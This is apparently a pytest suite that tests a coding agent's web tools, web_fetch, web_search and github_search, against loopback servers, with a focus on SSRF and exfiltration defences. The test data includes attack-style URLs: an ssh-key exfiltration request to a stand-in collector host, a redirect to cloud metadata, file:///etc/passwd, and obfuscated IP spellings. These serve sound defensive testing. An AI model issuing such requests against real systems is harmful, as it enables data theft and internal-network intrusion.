"""The web tools against real HTTP servers on loopback, and the address rules that guard them."""

from __future__ import annotations

import ipaddress
import shutil
import ssl
import subprocess
import threading
import time
from collections.abc import Sequence
from http.server import ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from codecoder.config.projectfile import Diagnostic
from codecoder.config.settings import WebSettings
from codecoder.foundation.ceiling import EnvironmentTag
from codecoder.foundation.decision import Answer
from codecoder.foundation.errors import ExecutionFailed, ExecutionTimeout, InvalidArguments
from codecoder.foundation.hosts import address_refusal, system_resolver
from codecoder.permissions.keys import Permission
from codecoder.session import Runtime
from codecoder.tools.base import Category
from codecoder.tools.web import (
    WEB_TOOLS,
    GitHubSearch,
    GuardedHttp,
    WebFetch,
    html_to_text,
)
from tests.conftest import write_config
from tests.runtime.tools.loopback import LoopbackServer, Reply, Request

PAGE = """<!doctype html>
<html><head><title>The  Guide</title><style>body { color: red }</style>
<script>alert("no")</script></head>
<body><nav><a href="/">Home</a></nav>
<h1>Getting started</h1>
<p>Install it with <code>pip</code>, then   read
the <a href="/docs/api">API reference</a>.</p>
<ul><li>fast</li><li>small &amp; safe</li></ul>
<pre>line one
    indented</pre>
</body></html>
"""


def never_ask(request: Any) -> Answer:
    raise AssertionError(f"the runtime asked for {request.key}")


class FakeResolver:
    """Answers from a table and records each lookup; never touches real DNS."""

    def __init__(self, table: dict[str, Sequence[str]]) -> None:
        self.table = table
        self.lookups: list[tuple[str, int]] = []

    def __call__(self, host: str, port: int) -> Sequence[str]:
        self.lookups.append((host, port))
        answer = self.table.get(host)
        if answer is None:
            raise ExecutionFailed(f"cannot resolve {host}: not in the test's table")
        return answer


def runtime_with(project: Path, web: dict[str, Any] | None = None, *tools: Any) -> Runtime:
    if web is not None:
        write_config(project, {"web": web})
    chosen = tools or WEB_TOOLS
    return Runtime(
        project, asker=never_ask, audit_log=None, tools={tool.name: tool for tool in chosen}
    )


def fetch(runtime: Runtime, url: str, **args: Any) -> Any:
    return runtime.session().call("web_fetch", {"url": url, **args})


# --- web_fetch on an allowed loopback host ---------------------------------------------------


def test_web_fetch_reads_an_allowed_loopback_page_as_readable_text(project: Path) -> None:
    with LoopbackServer({"/guide": Reply.html(PAGE)}) as server:
        runtime = runtime_with(project, {"allow_hosts": [f"127.0.0.1:{server.port}"]})
        outcome = fetch(runtime, server.url("/guide"))

    assert outcome.error is None
    assert outcome.result.output == (
        f"{server.url('/guide')} — The Guide\n\n"
        f"[Home]({server.url('/')})\n\n"
        "# Getting started\n\n"
        f"Install it with pip, then read the [API reference]({server.url('/docs/api')}).\n\n"
        "- fast\n\n"
        "- small & safe\n\n"
        "line one\n"
        "    indented"
    )
    assert outcome.result.data == {
        "url": server.url("/guide"),
        "final_url": server.url("/guide"),
        "status": 200,
        "content_type": "text/html",
        "bytes": len(PAGE.encode()),
        "title": "The Guide",
        "redirects": [],
        "truncated": False,
    }
    [request] = server.requests
    assert (request.method, request.target) == ("GET", "/guide")
    assert request.headers["Host"] == f"127.0.0.1:{server.port}"
    assert request.headers["Accept-Encoding"] == "identity"


def test_web_fetch_returns_the_source_when_asked_and_cuts_long_text(project: Path) -> None:
    long_page = PAGE * 3
    with LoopbackServer({"/": Reply.html(long_page)}) as server:
        runtime = runtime_with(project, {"allow_hosts": ["127.0.0.1"]})
        outcome = fetch(runtime, server.url("/"), raw=True, max_chars=500)

    assert outcome.result.output == (
        f"{server.url('/')}\n\n{long_page[:500]}\n\n"
        f"[cut: {len(long_page) - 500} more characters not shown]"
    )
    assert outcome.result.data["truncated"] is True


def test_web_fetch_does_not_show_binary_content(project: Path) -> None:
    png = Reply(200, b"\x89PNG\r\n\x1a\n" + bytes(100), {"Content-Type": "image/png"})
    with LoopbackServer({"/logo.png": png}) as server:
        runtime = runtime_with(project, {"allow_hosts": ["127.0.0.1"]})
        outcome = fetch(runtime, server.url("/logo.png"))

    assert outcome.result.output == (
        f"{server.url('/logo.png')}\n\n(image/png content, 108 bytes, not shown: it is not text)"
    )


def test_an_http_error_status_is_an_error_result_with_the_page_text(project: Path) -> None:
    with LoopbackServer() as server:
        runtime = runtime_with(project, {"allow_hosts": ["127.0.0.1"]})
        outcome = fetch(runtime, server.url("/missing"))

    assert outcome.error is None
    assert outcome.result.is_error is True
    assert outcome.result.output == f"{server.url('/missing')}\nHTTP 404 Not Found\n\nnot found"


def test_chunked_bodies_and_non_ascii_paths_are_handled(project: Path) -> None:
    chunked = Reply(
        200,
        b"5\r\nhello\r\n6\r\n world\r\n0\r\n\r\n",
        {"Content-Type": "text/plain; charset=utf-8", "Transfer-Encoding": "chunked"},
        length=False,
    )
    with LoopbackServer({"/caf%C3%A9": chunked}) as server:
        runtime = runtime_with(project, {"allow_hosts": ["127.0.0.1"]})
        outcome = fetch(runtime, server.url("/café"))

    assert outcome.result.output == f"{server.url('/café')}\n\nhello world"
    assert [r.target for r in server.requests] == ["/caf%C3%A9"]


def test_only_http_and_https_urls_are_accepted(project: Path) -> None:
    runtime = runtime_with(project)
    for url in ["file:///etc/passwd", "ftp://example.org/", "gopher://127.0.0.1:70/"]:
        outcome = fetch(runtime, url)
        assert isinstance(outcome.error, InvalidArguments), url
        assert outcome.error.problems == [("url", "must be an http:// or https:// URL")]


def test_urls_with_credentials_are_not_fetched(project: Path) -> None:
    outcome = fetch(runtime_with(project), "http://user:secret@127.0.0.1/")

    assert isinstance(outcome.error, ExecutionFailed)
    assert str(outcome.error) == (
        "cannot fetch http://user:secret@127.0.0.1/: URLs with credentials are not fetched"
    )


# --- the default refusals --------------------------------------------------------------------


def test_loopback_is_refused_by_default_and_no_request_reaches_the_server(project: Path) -> None:
    with LoopbackServer({"/": Reply.html(PAGE)}) as server:
        runtime = runtime_with(project)
        outcomes = [
            fetch(runtime, server.url("/")),
            fetch(runtime, f"http://[::1]:{server.port}/"),
            fetch(runtime, f"http://localhost:{server.port}/"),
            # Other spellings of 127.0.0.1 that resolvers accept.
            fetch(runtime, f"http://2130706433:{server.port}/"),
            fetch(runtime, f"http://0x7f.1:{server.port}/"),
        ]

    assert server.requests == []
    assert [type(outcome.error) for outcome in outcomes] == [ExecutionFailed] * 5
    assert str(outcomes[0].error) == (
        f"refused to fetch {server.url('/')}: 127.0.0.1 is a loopback address. A project can "
        'allow it in codecoder.json: "web": {"allow_hosts": '
        f'["127.0.0.1:{server.port}"]}}'
    )
    assert "::1 is a loopback address" in str(outcomes[1].error)
    assert "localhost resolves to" in str(outcomes[2].error)
    # Read as the address they spell, before any lookup: the suggestion names the address.
    assert ": 127.0.0.1 is a loopback address" in str(outcomes[3].error)
    assert ": 127.0.0.1 is a loopback address" in str(outcomes[4].error)


@pytest.mark.parametrize(
    ("address", "reason"),
    [
        ("10.1.2.3", "a private address"),
        ("172.16.0.1", "a private address"),
        ("192.168.1.1", "a private address"),
        ("169.254.169.254", "a cloud metadata address"),
        ("169.254.1.1", "a link-local address"),
        ("100.64.0.1", "a carrier-grade NAT address"),
        ("100.100.100.200", "a cloud metadata address"),
        ("168.63.129.16", "a cloud metadata address"),
        ("0.0.0.0", "the unspecified address"),
        ("224.0.0.251", "a multicast address"),
        ("240.0.0.1", "a private address"),
        ("::1", "a loopback address"),
        ("::", "the unspecified address"),
        ("fe80::1", "a link-local address"),
        ("fc00::1", "a private address"),
        ("fd00:ec2::254", "a cloud metadata address"),
        ("fec0::1", "a site-local address"),
        ("ff02::1", "a multicast address"),
        ("::ffff:127.0.0.1", "a loopback address (as ::ffff:7f00:1)"),
        ("::ffff:169.254.169.254", "a cloud metadata address (as ::ffff:a9fe:a9fe)"),
        ("2002:a00:1::", "a private address (as 2002:a00:1::)"),
        ("64:ff9b::a9fe:a9fe", "a cloud metadata address (as 64:ff9b::a9fe:a9fe)"),
    ],
)
def test_a_name_whose_dns_answer_is_internal_is_refused_before_connecting(
    project: Path, address: str, reason: str
) -> None:
    resolver = FakeResolver({"innocent.example": [address]})
    runtime = runtime_with(project, None, WebFetch(resolver=resolver))

    outcome = fetch(runtime, "http://innocent.example/page")

    assert isinstance(outcome.error, ExecutionFailed)
    assert str(outcome.error) == (
        f"refused to fetch http://innocent.example/page: innocent.example resolves to {address}, "
        f"which is {reason}. A project can allow it in codecoder.json: "
        '"web": {"allow_hosts": ["innocent.example:80"]}'
    )
    assert resolver.lookups == [("innocent.example", 80)]


def test_one_internal_address_among_public_ones_refuses_the_name(project: Path) -> None:
    # Checked before any connection: the public address is never contacted either.
    resolver = FakeResolver({"mixed.example": ["93.184.216.34", "10.0.0.7"]})
    runtime = runtime_with(project, None, WebFetch(resolver=resolver))

    outcome = fetch(runtime, "https://mixed.example/")

    assert "resolves to 10.0.0.7, which is a private address" in str(outcome.error)


def test_public_addresses_pass_the_address_rules() -> None:
    for address in ["93.184.216.34", "8.8.8.8", "2606:4700:4700::1111", "::ffff:8.8.8.8"]:
        assert address_refusal(ipaddress.ip_address(address)) is None, address


def test_a_name_is_resolved_once_and_the_request_goes_to_the_checked_address(
    project: Path,
) -> None:
    # A rebinding resolver would answer differently the second time; there is no second time.
    answers = iter([["127.0.0.1"], ["10.9.9.9"]])

    def rebinding(host: str, port: int) -> Sequence[str]:
        return next(answers)

    with LoopbackServer({"/": Reply.html("<p>docs</p>")}) as server:
        runtime = runtime_with(
            project, {"allow_hosts": [f"docs.internal:{server.port}"]}, WebFetch(resolver=rebinding)
        )
        outcome = fetch(runtime, f"http://docs.internal:{server.port}/")

    assert outcome.result.output == f"http://docs.internal:{server.port}/\n\ndocs"
    assert [r.headers["Host"] for r in server.requests] == [f"docs.internal:{server.port}"]
    assert next(answers) == ["10.9.9.9"]  # the second answer was never asked for


def test_an_allowed_host_does_not_allow_its_other_ports(project: Path) -> None:
    with LoopbackServer({"/": Reply.html("x")}) as server:
        runtime = runtime_with(project, {"allow_hosts": [f"127.0.0.1:{server.port + 1}"]})
        outcome = fetch(runtime, server.url("/"))

    assert "127.0.0.1 is a loopback address" in str(outcome.error)
    assert server.requests == []


# --- redirects -------------------------------------------------------------------------------


def test_redirects_are_followed_and_reported(project: Path) -> None:
    with LoopbackServer() as server:
        server.routes.update(
            {
                "/old": Reply.redirect("/moved", 301),
                "/moved": Reply.redirect(server.url("/new"), 307),
                "/new": Reply.html("<p>here</p>"),
            }
        )
        runtime = runtime_with(project, {"allow_hosts": ["127.0.0.1"]})
        outcome = fetch(runtime, server.url("/old"))

    assert outcome.result.output == f"{server.url('/new')}\n\nhere"
    assert outcome.result.data["redirects"] == [server.url("/moved"), server.url("/new")]
    assert [r.path for r in server.requests] == ["/old", "/moved", "/new"]


def test_a_redirect_into_an_internal_address_is_refused(project: Path) -> None:
    with LoopbackServer() as inner, LoopbackServer() as outer:
        outer.routes["/metadata"] = Reply.redirect("http://169.254.169.254/latest/meta-data/")
        outer.routes["/inner"] = Reply.redirect(f"http://localhost:{inner.port}/secret")
        outer.routes["/file"] = Reply.redirect("file:///etc/passwd")
        runtime = runtime_with(project, {"allow_hosts": [f"127.0.0.1:{outer.port}"]})
        to_metadata = fetch(runtime, outer.url("/metadata"))
        to_inner = fetch(runtime, outer.url("/inner"))
        to_file = fetch(runtime, outer.url("/file"))

    assert str(to_metadata.error).startswith(
        "refused to fetch http://169.254.169.254/latest/meta-data/: 169.254.169.254 is a cloud "
        "metadata address."
    )
    assert f"refused to fetch http://localhost:{inner.port}/secret: localhost resolves to" in str(
        to_inner.error
    )
    assert str(to_file.error) == (
        "redirected to file:///etc/passwd: only http:// and https:// URLs are fetched"
    )
    assert inner.requests == []


def test_redirect_loops_stop_at_the_limit(project: Path) -> None:
    with LoopbackServer() as server:
        server.routes["/loop"] = Reply.redirect("/loop")
        runtime = runtime_with(project, {"allow_hosts": ["127.0.0.1"], "max_redirects": 3})
        outcome = fetch(runtime, server.url("/loop"))

    assert str(outcome.error) == (
        f"{server.url('/loop')} redirected more than 3 times; stopped at {server.url('/loop')}"
    )
    assert len(server.requests) == 4


# --- size and time limits --------------------------------------------------------------------


def test_a_response_announcing_more_than_the_limit_is_refused_unread(project: Path) -> None:
    with LoopbackServer(
        {"/big": Reply(200, b"x" * 5000, {"Content-Type": "text/plain"})}
    ) as server:
        runtime = runtime_with(project, {"allow_hosts": ["127.0.0.1"], "max_bytes": 4096})
        outcome = fetch(runtime, server.url("/big"))

    assert isinstance(outcome.error, ExecutionFailed)
    assert str(outcome.error) == (
        f"refused {server.url('/big')}: the response announces 5000 bytes, over the limit of "
        '4096 bytes ("web": {"max_bytes": ...} in codecoder.json)'
    )


def test_a_response_without_a_length_is_cut_off_at_the_limit(project: Path) -> None:
    endless = Reply(200, b"y" * 50_000, {"Content-Type": "text/plain"}, length=False)
    with LoopbackServer({"/stream": endless}) as server:
        runtime = runtime_with(project, {"allow_hosts": ["127.0.0.1"], "max_bytes": 4096})
        outcome = fetch(runtime, server.url("/stream"))

    assert str(outcome.error) == (
        f"refused {server.url('/stream')}: the response sent more than 4096 bytes, over the "
        'limit of 4096 bytes ("web": {"max_bytes": ...} in codecoder.json)'
    )


@pytest.mark.parametrize(
    "reply",
    [
        Reply(200, b"z" * 100, {"Content-Type": "text/plain"}, drip=0.05),
        Reply(200, b"z", {"Content-Type": "text/plain"}, header_drip=0.05),
    ],
    ids=["slow body", "slow headers"],
)
def test_a_response_that_trickles_in_is_cut_off_at_the_deadline(
    project: Path, reply: Reply
) -> None:
    # Each byte comes well within any per-read timeout; only a deadline for the whole
    # exchange stops it.
    with LoopbackServer({"/slow": reply}) as server:
        runtime = runtime_with(project, {"allow_hosts": ["127.0.0.1"], "timeout": 0.5})
        started = time.monotonic()
        outcome = fetch(runtime, server.url("/slow"))
        elapsed = time.monotonic() - started

    assert isinstance(outcome.error, ExecutionTimeout)
    assert str(outcome.error) == (
        f"gave up on {server.url('/slow')}: no complete response within 0.5s "
        '("web": {"timeout": ...} in codecoder.json)'
    )
    assert elapsed < 2.0


# --- HTTPS: the name is verified, the checked address is dialled -----------------------------


@pytest.fixture
def tls_server(tmp_path: Path) -> Any:
    if shutil.which("openssl") is None:
        pytest.skip("openssl is needed to make a test certificate")
    key, cert = tmp_path / "key.pem", tmp_path / "cert.pem"
    subprocess.run(
        [
            *("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1"),
            *("-subj", "/CN=localhost", "-addext", "subjectAltName=DNS:localhost"),
            *("-keyout", str(key), "-out", str(cert)),
        ],
        check=True,
        capture_output=True,
    )
    with LoopbackServer({"/": Reply.html("<p>secure</p>")}) as server:
        plain: ThreadingHTTPServer = server._server
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(cert, key)
        plain.socket = context.wrap_socket(plain.socket, server_side=True)
        client = ssl.create_default_context(cafile=str(cert))
        yield server, client


def test_https_verifies_the_certificate_against_the_name_not_the_address(
    project: Path, tls_server: Any
) -> None:
    server, client = tls_server
    resolver = FakeResolver({"localhost": ["127.0.0.1"], "impostor.test": ["127.0.0.1"]})
    runtime = runtime_with(
        project,
        {"allow_hosts": ["localhost", "impostor.test"]},
        WebFetch(resolver=resolver, ssl_context=client),
    )

    good = fetch(runtime, f"https://localhost:{server.port}/")
    bad = fetch(runtime, f"https://impostor.test:{server.port}/")

    assert good.result.output == f"https://localhost:{server.port}/\n\nsecure"
    assert server.requests[0].headers["Host"] == f"localhost:{server.port}"
    assert isinstance(bad.error, ExecutionFailed)
    assert str(bad.error).startswith("TLS with impostor.test failed: CERTIFICATE_VERIFY_FAILED")


# --- web_search (SearxNG) --------------------------------------------------------------------


def searx_results(request: Request) -> Reply:
    return Reply.json(
        {
            "query": request.query["q"][0],
            "results": [
                {
                    "title": "httpx",
                    "url": "https://www.python-httpx.org/",
                    "content": "A next-generation  HTTP client.",
                    "engine": "duckduckgo",
                },
                {"title": "", "url": "https://example.org/no-title", "content": ""},
                {"title": "no url"},
            ],
        }
    )


def test_web_search_asks_the_configured_searxng_for_json_results(project: Path) -> None:
    with LoopbackServer({"/search": searx_results}) as server:
        runtime = runtime_with(project, {"search_url": server.origin})
        outcome = runtime.session().call("web_search", {"query": "python http client", "page": 2})

    assert outcome.result.output == (
        "1. httpx\n   https://www.python-httpx.org/\n   A next-generation HTTP client.\n"
        "2. https://example.org/no-title\n   https://example.org/no-title"
    )
    assert outcome.result.data["results"][0] == {
        "title": "httpx",
        "url": "https://www.python-httpx.org/",
        "snippet": "A next-generation HTTP client.",
        "engine": "duckduckgo",
    }
    [request] = server.requests
    assert request.query == {"q": ["python http client"], "format": ["json"], "pageno": ["2"]}


def test_web_search_without_a_backend_says_how_to_configure_one(project: Path) -> None:
    outcome = runtime_with(project).session().call("web_search", {"query": "anything"})

    assert str(outcome.error) == (
        "web_search has no search backend: set the URL of a SearxNG instance in codecoder.json "
        '("web": {"search_url": "https://searx.example.org"})'
    )


def test_web_search_explains_a_backend_that_refuses_json(project: Path) -> None:
    with LoopbackServer({"/search": Reply(403, b"Forbidden")}) as server:
        runtime = runtime_with(project, {"search_url": server.origin + "/search"})
        outcome = runtime.session().call("web_search", {"query": "q"})

    assert str(outcome.error) == (
        f"the search backend at {server.origin}/search answered HTTP 403 "
        "(is the json format enabled in its settings.yml?)"
    )


def test_the_search_backend_is_trusted_only_for_web_search(project: Path) -> None:
    with LoopbackServer({"/search": searx_results}) as server:
        runtime = runtime_with(project, {"search_url": server.origin})
        outcome = fetch(runtime, server.url("/search?q=x&format=json"))

    assert "127.0.0.1 is a loopback address" in str(outcome.error)
    assert server.requests == []


# --- github_search ---------------------------------------------------------------------------

REPOSITORIES = {
    "total_count": 2,
    "items": [
        {
            "full_name": "encode/httpx",
            "stargazers_count": 13000,
            "description": "A next generation HTTP client for Python.",
            "html_url": "https://github.com/encode/httpx",
        },
        {
            "full_name": "psf/requests",
            "stargazers_count": 52000,
            "html_url": "https://github.com/psf/requests",
        },
    ],
}


def test_github_search_sends_the_query_and_token_to_the_configured_api(project: Path) -> None:
    with LoopbackServer({"/api/v3/search/repositories": Reply.json(REPOSITORIES)}) as server:
        tool = GitHubSearch(environ={"GH_TOKEN": "t0ken"})
        runtime = runtime_with(
            project,
            {"github_api_url": server.url("/api/v3"), "github_token_env": "GH_TOKEN"},
            tool,
        )
        outcome = runtime.session().call(
            "github_search", {"query": "http client language:python", "max_results": 5}
        )

    assert outcome.result.output == (
        "2 results\n"
        "1. encode/httpx ★13000 — A next generation HTTP client for Python.\n"
        "   https://github.com/encode/httpx\n"
        "2. psf/requests ★52000\n"
        "   https://github.com/psf/requests"
    )
    [request] = server.requests
    assert request.query == {"q": ["http client language:python"], "per_page": ["5"], "page": ["1"]}
    assert request.headers["Authorization"] == "Bearer t0ken"
    assert request.headers["Accept"] == "application/vnd.github+json"


def test_github_search_formats_issues_code_and_commits(project: Path) -> None:
    routes = {
        "/search/issues": Reply.json(
            {
                "total_count": 1,
                "items": [
                    {
                        "number": 7,
                        "state": "open",
                        "title": "Timeouts",
                        "pull_request": {},
                        "html_url": "https://github.com/o/r/pull/7",
                    }
                ],
            }
        ),
        "/search/code": Reply.json(
            {
                "total_count": 1,
                "items": [
                    {
                        "path": "src/a.py",
                        "repository": {"full_name": "o/r"},
                        "html_url": "https://github.com/o/r/blob/main/src/a.py",
                    }
                ],
            }
        ),
        "/search/commits": Reply.json(
            {
                "total_count": 1,
                "items": [
                    {
                        "sha": "0123456789abcdef",
                        "commit": {"message": "Fix it\n\ndetails"},
                        "repository": {"full_name": "o/r"},
                        "html_url": "https://github.com/o/r/commit/0123456789abcdef",
                    }
                ],
            }
        ),
    }
    with LoopbackServer(routes) as server:
        runtime = runtime_with(
            project, {"github_api_url": server.origin}, GitHubSearch(environ={"GITHUB_TOKEN": "t"})
        )
        session = runtime.session()
        outputs = [
            session.call("github_search", {"query": "q", "kind": kind}).result.output
            for kind in ("issues", "code", "commits")
        ]

    assert outputs == [
        "1 result\n1. [PR #7, open] Timeouts\n   https://github.com/o/r/pull/7",
        "1 result\n1. o/r: src/a.py\n   https://github.com/o/r/blob/main/src/a.py",
        "1 result\n1. o/r@0123456789 Fix it\n   https://github.com/o/r/commit/0123456789abcdef",
    ]


def test_github_search_reports_the_rate_limit(project: Path) -> None:
    limited = Reply.json(
        {"message": "API rate limit exceeded for 127.0.0.1."}, 403, **{"X-RateLimit-Remaining": "0"}
    )
    with LoopbackServer({"/search/repositories": limited}) as server:
        runtime = runtime_with(project, {"github_api_url": server.origin}, GitHubSearch(environ={}))
        outcome = runtime.session().call("github_search", {"query": "q"})

    assert str(outcome.error) == (
        f"GitHub search at {server.origin} answered HTTP 403: API rate limit exceeded for "
        "127.0.0.1. (rate limit reached; a token in $GITHUB_TOKEN raises it)"
    )


def test_a_token_is_not_carried_to_another_origin_by_a_redirect(project: Path) -> None:
    with LoopbackServer() as elsewhere, LoopbackServer() as api:
        elsewhere.routes["/search/repositories"] = Reply.json({"total_count": 0, "items": []})
        api.routes["/search/repositories"] = lambda request: Reply.redirect(
            elsewhere.url(request.target)
        )
        runtime = runtime_with(
            project,
            {"github_api_url": api.origin, "allow_hosts": [f"127.0.0.1:{elsewhere.port}"]},
            GitHubSearch(environ={"GITHUB_TOKEN": "secret"}),
        )
        outcome = runtime.session().call("github_search", {"query": "q"})

    assert outcome.result.output == "0 results"
    assert api.requests[0].headers["Authorization"] == "Bearer secret"
    assert "Authorization" not in elsewhere.requests[0].headers


# --- the web policy ------------------------------------------------------------------------


def test_a_policy_that_denies_everything_but_named_hosts_reaches_only_those(
    project: Path,
) -> None:
    resolver = FakeResolver({"docs.example": ["93.184.216.34"], "secret.collector.example": []})
    tool = WebFetch(resolver=resolver)
    with LoopbackServer({"/": Reply.html(PAGE)}) as server:
        runtime = runtime_with(
            project,
            {"deny_hosts": ["*"], "allow_hosts": [f"127.0.0.1:{server.port}"]},
            tool,
        )
        allowed = fetch(runtime, server.url("/"))
        refused = fetch(runtime, "https://secret.collector.example/?data=ssh-key")

    assert allowed.ok
    assert isinstance(refused.error, ExecutionFailed)
    assert str(refused.error) == (
        "refused to fetch https://secret.collector.example/?data=ssh-key: the web policy "
        "denies secret.collector.example (deny_hosts entry '*')"
    )
    # Not even resolved: a DNS query for a denied name could itself carry data out.
    assert resolver.lookups == []


def test_a_redirect_to_a_denied_host_is_refused(project: Path) -> None:
    with LoopbackServer({"/": Reply.redirect("http://blocked.example/steal")}) as server:
        runtime = runtime_with(
            project,
            {"deny_hosts": ["blocked.example"], "allow_hosts": ["127.0.0.1"]},
            WebFetch(resolver=FakeResolver({})),
        )
        outcome = fetch(runtime, server.url("/"))

    assert "the web policy denies blocked.example" in str(outcome.error)


def test_an_untrusted_project_cannot_open_a_local_address_but_can_deny_hosts(
    project: Path,
) -> None:
    resolver = FakeResolver({"public.example": ["93.184.216.34"]})
    with LoopbackServer({"/": Reply.html(PAGE)}) as server:
        write_config(
            project,
            {"web": {"allow_hosts": ["127.0.0.1"], "deny_hosts": ["public.example"]}},
            trusted=False,
        )
        runtime = runtime_with(project, None, WebFetch(resolver=resolver))
        local = fetch(runtime, server.url("/"))
        denied = fetch(runtime, "http://public.example/")

    assert "is a loopback address" in str(local.error)
    assert server.requests == []
    assert "the web policy denies public.example" in str(denied.error)


# --- configuration ---------------------------------------------------------------------------


def test_the_web_section_of_codecoder_json_becomes_the_web_settings(project: Path) -> None:
    runtime = runtime_with(
        project,
        {
            "allow_hosts": ["LocalHost", "127.0.0.1:8123", "[::1]:8080"],
            "search_url": "http://127.0.0.1:8888",
            "max_bytes": 4096,
            "timeout": 2.5,
        },
    )

    assert runtime.diagnostics == ()
    assert runtime.config.web == WebSettings(
        allow_hosts=frozenset({("localhost", None), ("127.0.0.1", 8123), ("::1", 8080)}),
        search_url="http://127.0.0.1:8888",
        max_bytes=4096,
        timeout=2.5,
    )


def test_a_bad_web_entry_is_reported_where_it_is_and_allows_nothing(project: Path) -> None:
    write_config(
        project,
        '{\n  "web": {\n    "allow_hosts": ["127.0.0.1", "not a host"],\n'
        '    "search_url": "file:///etc"\n  }\n}\n',
    )
    runtime = runtime_with(project, None)

    assert runtime.diagnostics == (
        Diagnostic(
            "error",
            "schema",
            'web.allow_hosts[1] must be a host name, an IP address or host:port, not "not a host"',
            None,
            3,
            34,
        ),
        Diagnostic(
            "error",
            "schema",
            'web.search_url must be an http:// or https:// URL with a host, not "file:///etc"',
            None,
            4,
            19,
        ),
    )
    assert runtime.config.web == WebSettings()


def test_the_system_resolver_maps_resolution_failures_to_execution_failed() -> None:
    with pytest.raises(ExecutionFailed, match=r"^cannot resolve name\.invalid: "):
        system_resolver("name.invalid", 80)


def test_the_client_works_without_a_runtime(tmp_path: Path) -> None:
    with LoopbackServer({"/": Reply(200, b"plain", {"Content-Type": "text/plain"})}) as server:
        client = GuardedHttp(WebSettings(allow_hosts=frozenset({("127.0.0.1", server.port)})))
        response = client.get(server.url("/"))

    assert (response.status, response.content_type, response.text()) == (200, "text/plain", "plain")


def test_html_to_text_drops_scripts_and_keeps_structure() -> None:
    text, title = html_to_text(PAGE, "https://docs.example/guide")

    assert title == "The Guide"
    assert text.splitlines()[:3] == ["[Home](https://docs.example/)", "", "# Getting started"]
    assert "alert" not in text and "color" not in text


def test_every_web_tool_needs_no_permission_runs_in_the_runtime_and_describes_its_fields() -> None:
    examples = {
        "web_fetch": {"url": "https://example.org/"},
        "web_search": {"query": "q"},
        "github_search": {"query": "q"},
    }
    assert [
        (
            tool.name,
            tool.permission(tool.parameters.model_validate(examples[tool.name])),
            tool.environment,
            tool.category,
            tool.asks,
        )
        for tool in WEB_TOOLS
    ] == [
        (name, Permission.none(), EnvironmentTag.RUNTIME, Category.WEB, False)
        for name in ("web_fetch", "web_search", "github_search")
    ]
    for tool in WEB_TOOLS:
        schema = tool.parameters.model_json_schema()
        assert all(prop.get("description") for prop in schema["properties"].values()), tool.name


def test_web_tools_are_safe_to_call_concurrently(project: Path) -> None:
    with LoopbackServer({"/": Reply.html("<p>ok</p>")}) as server:
        runtime = runtime_with(project, {"allow_hosts": ["127.0.0.1"]})
        results: list[str] = []

        def worker() -> None:
            results.append(fetch(runtime, server.url("/")).result.output)

        threads = [threading.Thread(target=worker) for _ in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    assert results == [f"{server.url('/')}\n\nok"] * 8


@pytest.mark.parametrize(
    "host", ["1572395042", "0x5db8d822", "0135.0270.0330.042", "93.184.55330", "93.184.216.34."]
)
def test_a_deny_entry_for_an_address_holds_however_the_url_spells_it(
    project: Path, host: str
) -> None:
    # inet_aton's spellings of 93.184.216.34 (a public address, reachable by default), which the
    # system resolver accepts: the deny entry must see the address, not an unknown host name.
    resolver = FakeResolver({})
    runtime = runtime_with(project, {"deny_hosts": ["93.184.216.34"]}, WebFetch(resolver=resolver))
    outcome = fetch(runtime, f"http://{host}/")

    assert isinstance(outcome.error, ExecutionFailed)
    assert "the web policy denies 93.184.216.34" in str(outcome.error)
    assert resolver.lookups == []
